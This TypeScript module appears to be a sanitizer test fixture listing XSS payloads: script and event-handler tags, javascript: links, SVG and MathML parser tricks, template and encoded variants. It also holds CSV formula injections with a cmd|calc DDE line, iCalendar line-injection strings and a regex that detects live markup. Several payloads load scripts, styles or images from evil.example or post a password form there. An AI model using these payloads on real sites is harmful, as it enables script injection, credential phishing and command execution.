// Texts that would run, were they ever taken for a page. Each sets one word by which a page would be found out.
const run = 'window.__xss=1'

const tags = [
  `<script>${run}</script>`,
  `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>${run}</scr</script>ipt>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `</script><script>${run}</script>`,
  `--><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `"><script>${run}</script>`,
  `<script\n>${run}</script\n>`,
  `<script x>${run}</script x>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__xss=1">`,
  `<object data="javascript:${run}">`,
  `<embed src="data:text/html,<script>${run}</script>">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example">`,
  `<link rel=stylesheet href=https://evil.example/x.css>`,
  `<form action=https://evil.example><input name=password><button>Sign in`,
]
const attributes = [
  `<img src=x onerror=${run}>`,
  `<img src=x onerror="${run}"//`,
  `<img/src="x"/onerror=${run}>`,
  `<img src="https://evil.example/seen.png">`,
  `<body onload=${run}>`,
  `<input autofocus onfocus=${run}>`,
  `<details open ontoggle=${run}>`,
  `<video><source onerror=${run}>`,
  `<audio src onloadstart=${run}>`,
  `<marquee onstart=${run}>`,
  `<p onpointerover=${run} style="position:fixed;inset:0">`,
  `" onmouseover="${run}" x="`,
  `' onfocus='${run}' autofocus='`,
  '` onmouseover=`window.__xss=1`',
]
const addresses = [
  `javascript:${run}`,
  `JaVaScRiPt:${run}`,
  ` javascript:${run}`,
  `java\tscript:${run}`,
  `javascript://https://safar.example/%0a${run}`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="jav&#x09;ascript:${run}">x</a>`,
  `<a href="&#106;avascript:${run}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>`,
  `vbscript:msgbox(1)`,
]
const otherTrees = [
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run}>#x">`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run}></style>`,
  `<math><a xlink:href="javascript:${run}">x`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<template><script>${run}</script></template>`,
  `<style><img src="</style><img src=x onerror=${run}>">`,
  `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
]
const others = [
  `<style>*{background:url(https://evil.example/css)}</style>`,
  `x;background:url(javascript:${run})`,
  '${window.__xss=1}',
  '{{constructor.constructor("window.__xss=1")()}}',
  '<%= window.__xss=1 %>',
  `[x](javascript:${run})`,
  `![x](https://evil.example/md.png)`,
  `＜script＞${run}＜/script＞`,
  `<ſcript>${run}</ſcript>`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `%3Cscript%3E${run}%3C/script%3E`,
  `\\u003cscript\\u003e${run}`,
  `=HYPERLINK("https://evil.example","x")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
]

export const scripts: readonly string[] = [...tags, ...attributes, ...addresses, ...otherTrees, ...others]

/** What would stand in HTML that lets one of them run, or lets somebody hear that it was looked at. */
export const alive =
  /<(?:script|iframe|object|embed|base|meta|link|form|svg|math|style|img|video|audio|body|input|details|marquee|template)\b|<[a-z][^>]*\son\w+\s*=|(?:href|src)\s*=\s*["']?\s*(?:javascript|data|vbscript):/i

/** Into a calendar file, where a line is a field. */
export const calendarTexts = [
  'A\r\nATTENDEE:mailto:spy@example.com',
  'A\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:B',
  'A\rURL:https://evil.example',
  'A;X=Y:Z,B\\nC',
  'A\u2028ORGANIZER:mailto:spy@example.com',
  'x'.repeat(500),
] as const
